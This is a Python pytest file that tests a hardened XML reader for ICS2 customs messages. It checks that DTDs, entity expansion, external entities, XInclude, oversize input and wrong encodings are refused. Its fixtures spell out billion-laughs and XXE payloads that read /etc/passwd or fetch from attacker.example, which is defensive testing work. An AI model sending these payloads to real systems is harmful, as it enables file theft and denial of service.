"""The hardened XML reader refuses every input that could make lxml reach out or blow up."""

from __future__ import annotations

import pytest
from lxml import etree

from streams.errors import XMLRejected
from streams.messages import NS
from streams.messages.safe import read_xml

GOOD = f'<?xml version="1.0" encoding="UTF-8"?><IE3N11 xmlns="{NS}"><notificationDate/></IE3N11>'.encode()

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2">&lol3;</IE3N11>"""

EXTERNAL_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2">&xxe;</IE3N11>"""

EXTERNAL_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2">&xxe;</IE3N11>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE IE3N11 SYSTEM "file:///etc/passwd">
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2"/>"""

XINCLUDE = b"""<?xml version="1.0"?>
<IE3N11 xmlns="urn:wco:datamodel:eu:ics2:2" xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></IE3N11>"""


class TestReadXml:
    def test_reads_ics2_message(self):
        """A well-formed ICS2 message becomes its root element."""
        root = read_xml(GOOD)
        assert root.tag == f"{{{NS}}}IE3N11"

    @pytest.mark.parametrize(
        "attack",
        [BILLION_LAUGHS, EXTERNAL_FILE, EXTERNAL_HTTP, PARAMETER_ENTITY, EXTERNAL_DTD],
        ids=["billion-laughs", "external-file", "external-http", "parameter-entity", "external-dtd"],
    )
    def test_refuses_dtds(self, attack):
        """Any DOCTYPE or ENTITY declaration is refused before lxml sees it."""
        with pytest.raises(XMLRejected, match="DTDs are not accepted"):
            read_xml(attack)

    def test_refuses_doctype_in_lower_case_disguise(self):
        """The DTD check does not depend on letter case."""
        with pytest.raises(XMLRejected, match="DTDs are not accepted"):
            read_xml(b'<?xml version="1.0"?><!doctype x [<!entity a "b">]><x/>')

    def test_refuses_oversize_input_before_parsing(self, monkeypatch):
        """Input over the size limit is refused without being parsed."""

        def no_parsing(*args, **kwargs):
            raise AssertionError("parsed despite the size limit")

        monkeypatch.setattr(etree, "fromstring", no_parsing)
        with pytest.raises(XMLRejected, match="exceeds the limit of 100 bytes"):
            read_xml(GOOD + b" " * 100, max_bytes=100)

    def test_accepts_input_at_the_size_limit(self):
        """The limit is inclusive: a document of exactly max_bytes is read."""
        assert read_xml(GOOD, max_bytes=len(GOOD)) is not None

    def test_refuses_wrong_namespace(self):
        """A root outside the ICS2 namespace is refused with both namespaces named."""
        with pytest.raises(XMLRejected, match="expected 'urn:wco:datamodel:eu:ics2:2'"):
            read_xml(b'<IE3N11 xmlns="urn:example:other"/>')

    def test_refuses_missing_namespace(self):
        """A root in no namespace at all is refused."""
        with pytest.raises(XMLRejected, match="namespace None"):
            read_xml(b"<IE3N11/>")

    def test_any_namespace_when_asked(self):
        """namespace=None lets a caller read XML of another vocabulary."""
        assert etree.QName(read_xml(b'<r xmlns="urn:x"/>', namespace=None)).namespace == "urn:x"

    def test_refuses_truncated_xml(self):
        """A document cut short is not well-formed and is refused, with lxml's error chained."""
        with pytest.raises(XMLRejected, match="not well-formed") as caught:
            read_xml(GOOD[:-10])
        assert isinstance(caught.value.__cause__, etree.XMLSyntaxError)

    @pytest.mark.parametrize(
        "data", [b"", b"   ", b'{"json": true}', b"plain text"], ids=["empty", "blank", "json", "text"]
    )
    def test_refuses_non_xml(self, data):
        """Empty input and other formats are refused."""
        with pytest.raises(XMLRejected):
            read_xml(data)

    def test_refuses_invalid_utf8(self):
        """Bytes that are not UTF-8 are refused, naming the offending byte."""
        with pytest.raises(XMLRejected, match="not valid UTF-8"):
            read_xml(f'<IE3N11 xmlns="{NS}">'.encode() + b"\xff\xfe\xfa" + b"</IE3N11>")

    def test_refuses_other_declared_encoding(self):
        """A document declaring another encoding is refused even when its bytes happen to be ASCII."""
        with pytest.raises(XMLRejected, match="only UTF-8"):
            read_xml(f'<?xml version="1.0" encoding="ISO-8859-1"?><IE3N11 xmlns="{NS}"/>'.encode())

    def test_refuses_utf16(self):
        """UTF-16 input is refused."""
        with pytest.raises(XMLRejected):
            read_xml(f'<IE3N11 xmlns="{NS}"/>'.encode("utf-16"))

    def test_refuses_str(self):
        """Text must be given as bytes, so the encoding check cannot be bypassed."""
        with pytest.raises(XMLRejected, match="bytes"):
            read_xml(GOOD.decode())  # type: ignore[arg-type]

    def test_does_not_honour_xinclude(self):
        """An XInclude element stays an inert element: no file is read into the tree."""
        root = read_xml(XINCLUDE)
        assert "root:" not in etree.tostring(root).decode()
        assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"

    def test_drops_processing_instructions(self):
        """Processing instructions inside the document are removed, never acted on."""
        root = read_xml(f'<IE3N11 xmlns="{NS}"><?xml-stylesheet href="http://x/y.xsl"?><a/></IE3N11>'.encode())
        assert [etree.QName(c).localname for c in root] == ["a"]
